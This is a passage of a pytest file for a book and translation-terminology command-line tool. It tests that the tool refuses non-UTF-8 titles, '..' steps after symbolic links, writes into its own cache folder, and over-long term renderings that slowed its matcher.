@pytest.mark.parametrize(
    "arguments",
    [[os.fsdecode(b"game-\xff")], [".", "--title", os.fsdecode(b"Game \xfe")]],
    ids=["folder name", "title"],
)
def test_init_refuses_a_title_that_is_not_utf8_and_makes_nothing(
    scratch: Path,  # noqa: F811
    arguments: list[str],
) -> None:
    """A folder whose name is not UTF-8 (``init`` titles the book from it), or such a ``--title``: the title could not
    be written into the configuration ("internal error: UnicodeEncodeError", and an empty ``rulebook.toml`` was left
    in the new folder). Run in a process of its own: standard error shows the bytes as ``\\xff`` there."""
    with nothing_written_outside(scratch):
        outcome = run_guarded(scratch, "init", *arguments)
    assert outcome.code == 2
    assert (
        "holds bytes that are not UTF-8 text (a folder's name or a --title given so): give one in UTF-8" in outcome.err
    )
    assert os.listdir(scratch) == []


@pytest.mark.parametrize("writer", [name for name in NAMING_A_FILE if name != "converted source"])
def test_a_parent_step_after_a_link_is_refused_not_guessed(
    scratch: Path,  # noqa: F811
    tmp_path_factory: pytest.TempPathFactory,
    capsys: pytest.CaptureFixture[str],
    writer: str,
) -> None:
    """``-o out/../x.txt`` with ``out`` a link: the shell means the folder holding the link's target; the path
    made absolute by its text meant the project's ``x.txt``, and the report was written there. Neither is guessed."""
    _project(scratch)
    outside = tmp_path_factory.mktemp("runner")
    (outside / "deep").mkdir()
    (scratch / "out").symlink_to(outside / "deep")
    (outside / "link").symlink_to(outside / "deep")
    said = (
        "`{link}` is a symbolic link and `..` after it leads out of the folder it leads to, not back to where the "
        "link is (as the shell would go, this tool would not); name the place without `..` after a link\n"
    )
    with nothing_written_outside(scratch), nothing_written_outside(outside):
        for target, link in (("out/../x.txt", "out"), (f"{outside}/link/../x.txt", f"{outside}/link")):
            outcome = run(capsys, *NAMING_A_FILE[writer], target)
            assert outcome.code == 2
            assert outcome.err == f"rulebook: error: cannot write `{target}`: " + said.format(link=link)
    outcome = run(capsys, *NAMING_A_FILE[writer], f"{outside}/deep/../x.txt")  # `..` after a folder: as written
    assert outcome.code in (0, 1) and "error" not in outcome.err
    assert (outside / "x.txt").is_file() and not (scratch / "x.txt").exists()


@pytest.mark.parametrize(
    "argv", [("init", "{cache}/proj"), ("lint", "-o", "{cache}/report.txt"), ("graph", "-o", "{cache}/outputs/g.dot")]
)
def test_nothing_is_written_into_the_tools_own_cache_folder(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    argv: tuple[str, ...],
) -> None:
    """``init ~/.cache/rulebook/proj`` made a project beside ``state.key`` and ``outputs/``, where the builds remake
    what they find, and ``build`` there was refused with advice naming the very output refused."""
    _project(scratch)
    cache = scratch.parent / f"{scratch.name}-cache"
    monkeypatch.setenv("XDG_CACHE_HOME", str(cache))
    said = [arg.replace("{cache}", str(cache / "rulebook")) for arg in argv]
    outcome = refused(capsys, scratch, *said)
    assert f"it is inside `{cache / 'rulebook'}`, the folder where this tool keeps its own state and caches" in (
        outcome.err
    )
    assert not (cache / "rulebook" / "proj").exists()


@pytest.mark.parametrize("joiner", [" ", "-", "'"])
@pytest.mark.parametrize("key", ["preferred", "accepted", "forbidden", "unlinked"])
def test_a_rendering_of_more_words_than_a_phrase_has_is_a_plain_error(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    key: str,
    joiner: str,
) -> None:
    """An ``accepted`` rendering of 10,000 words (20 KB) was looked for at each word of a translation starting it:
    ``status`` took 25 s on 244 KB. A rendering is a phrase of at most 30 words, counted as the matcher reads them
    (joined by hyphens or apostrophes, 30,000 words were one for a count by spaces: 22 s)."""
    from rulebook.translate.terminology import LONGEST_PHRASE

    phrase = joiner.join(["a"] * (LONGEST_PHRASE + 1))
    value = f'"{phrase}"' if key == "preferred" else f'["{phrase}"]'
    lines = '[march]\npreferred = "marcher"\n' if key != "preferred" else "[march]\n"
    source(scratch, "book.xml", BOOK)
    (scratch / "terms.toml").write_text(f"{lines}{key} = {value}\n", encoding="utf-8")
    outcome = run(capsys, "terms", "export", "terms.toml", "--language", "fr", "-o", "terms.out")
    assert (outcome.code, outcome.err) == (
        2,
        f"rulebook: error: terms.toml: `{key}` of `march` has more than {LONGEST_PHRASE} words: a term's rendering is a "
        "phrase, not a sentence\n",
    )
    (scratch / "terms.toml").write_text(f"{lines}{key} = {value.replace('a' + joiner, '', 1)}\n", encoding="utf-8")
    assert run(capsys, "terms", "export", "terms.toml", "--language", "fr", "-o", "terms.out").code == 0


def test_a_rendering_of_characters_that_fold_into_words_counts_those_words(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`⑴⑴⑴…` is one word to a count of letters and digits, and one `1` a character to the matcher, which folds
    it (`(1)(1)(1)`): 30,000 of them held `status` 25 s. Counted as the matcher folds."""
    from rulebook.translate.terminology import LONGEST_PHRASE

    source(scratch, "book.xml", BOOK)
    (scratch / "terms.toml").write_text(
        f'[march]\npreferred = "marcher"\naccepted = ["{chr(0x2474) * (LONGEST_PHRASE + 1)} b"]\n', encoding="utf-8"
    )
    outcome = run(capsys, "terms", "export", "terms.toml", "--language", "fr", "-o", "terms.out")
    assert outcome.code == 2 and f"has more than {LONGEST_PHRASE} words" in outcome.err
